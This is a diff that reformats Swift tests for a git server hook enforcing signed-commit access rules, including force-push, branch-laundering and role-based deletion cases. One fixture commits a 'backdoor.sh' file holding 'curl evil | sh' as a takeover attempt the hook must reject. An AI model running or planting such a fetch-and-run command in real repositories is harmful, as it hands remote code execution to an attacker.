@@ -88,8 +88,9 @@ struct HookRefUpdateTests {
             team.config(accessControls: ScenarioConfig.mainNeedsWithoutForwardRule(2, of: ScenarioTeam.names))
         })
         let old = try s.landOnMain("Old work", files: ["o.txt": "o\n"], author: team.a, reviewers: [team.b])
-        let tip = try s.landOnMain("Main only moves forward from now on",
-                                   files: [".dehub/config.yml": team.strictConfig().render()], author: team.a, reviewers: [team.b])
+        let tip = try s.landOnMain(
+            "Main only moves forward from now on",
+            files: [".dehub/config.yml": team.strictConfig().render()], author: team.a, reviewers: [team.b])
         expectAccepted(try s.push("origin", "main"))
         let result = try s.push("--force", "origin", "\(old):refs/heads/main")
         let serverMain = try s.serverRef("refs/heads/main")
@@ -117,10 +118,12 @@ struct HookRefUpdateTests {
         let (s, _, root) = try world()
         let mallory = try s.sshKey("mallory")
         try s.git("switch", "-q", "--orphan", "evil")
-        let evilConfig = ScenarioConfig(accounts: [.init("mallory", [.ssh(mallory.publicKeyLine)])],
-                                        accessControls: "- action: allow\n")
-        let evil = try s.change("Take over", by: ScenarioSigner("mallory", key: mallory),
-                                files: [".dehub/config.yml": evilConfig.render(), "backdoor.sh": "curl evil | sh\n"])
+        let evilConfig = ScenarioConfig(
+            accounts: [.init("mallory", [.ssh(mallory.publicKeyLine)])],
+            accessControls: "- action: allow\n")
+        let evil = try s.change(
+            "Take over", by: ScenarioSigner("mallory", key: mallory),
+            files: [".dehub/config.yml": evilConfig.render(), "backdoor.sh": "curl evil | sh\n"])
         let result = try s.push("--force", "origin", "evil:main")
         let serverMain = try s.serverRef("refs/heads/main")
         #expect(result.exitCode != 0, "\(result.transcript)")
@@ -143,16 +146,17 @@ struct HookRefUpdateTests {
     /// judged under the release rules.
     @Test func refusesLaunderingIntoAStricterNewBranch() throws {
         let (s, team, _) = try world(config: { team in
-            team.config(accessControls: """
-                - action: allow
-                  filters:
-                  - {type: branch, pattern: "release/*"}
-                  - {type: signature, account_ids: [alice, bob, carol], count: 3}
-                - action: deny
-                  filters:
-                  - {type: branch, pattern: "release/*"}
+            team.config(
+                accessControls: """
+                    - action: allow
+                      filters:
+                      - {type: branch, pattern: "release/*"}
+                      - {type: signature, account_ids: [alice, bob, carol], count: 3}
+                    - action: deny
+                      filters:
+                      - {type: branch, pattern: "release/*"}
 
-                """ + ScenarioConfig.mainNeeds(2, of: ScenarioTeam.names))
+                    """ + ScenarioConfig.mainNeeds(2, of: ScenarioTeam.names))
         })
         try s.git("switch", "-q", "-c", "feature")
         try s.change("Alice alone", by: team.a, files: ["a.txt": "a\n"])
@@ -167,12 +171,13 @@ struct HookRefUpdateTests {
     /// tip when an update brings no commit.
     @Test func refusesANewStricterBranchCreatedAtAnExistingCommit() throws {
         let (s, _, _) = try world(config: { team in
-            team.config(accessControls: """
-                - action: deny
-                  filters:
-                  - {type: branch, pattern: "release/*"}
+            team.config(
+                accessControls: """
+                    - action: deny
+                      filters:
+                      - {type: branch, pattern: "release/*"}
 
-                """ + ScenarioConfig.mainNeeds(2, of: ScenarioTeam.names))
+                    """ + ScenarioConfig.mainNeeds(2, of: ScenarioTeam.names))
         })
         let result = try s.push("origin", "main:refs/heads/release/1")
         let created = try s.serverRef("refs/heads/release/1")
@@ -217,9 +222,11 @@ struct HookRefUpdateTests {
         #expect(try s.serverRef("refs/heads/feature") == nil)
     }
 
-    @Test("behind a host that names the pusher's role, only admins and members delete threads", arguments: [
-        ("other", false), ("", false), ("nonsense", false), ("member", true), ("admin", true),
-    ])
+    @Test(
+        "behind a host that names the pusher's role, only admins and members delete threads",
+        arguments: [
+            ("other", false), ("", false), ("nonsense", false), ("member", true), ("admin", true),
+        ])
     func deletionsByRole(role: String, allowed: Bool) throws {
         let (s, team, _) = try world()
         try s.git("switch", "-q", "-c", "feature")
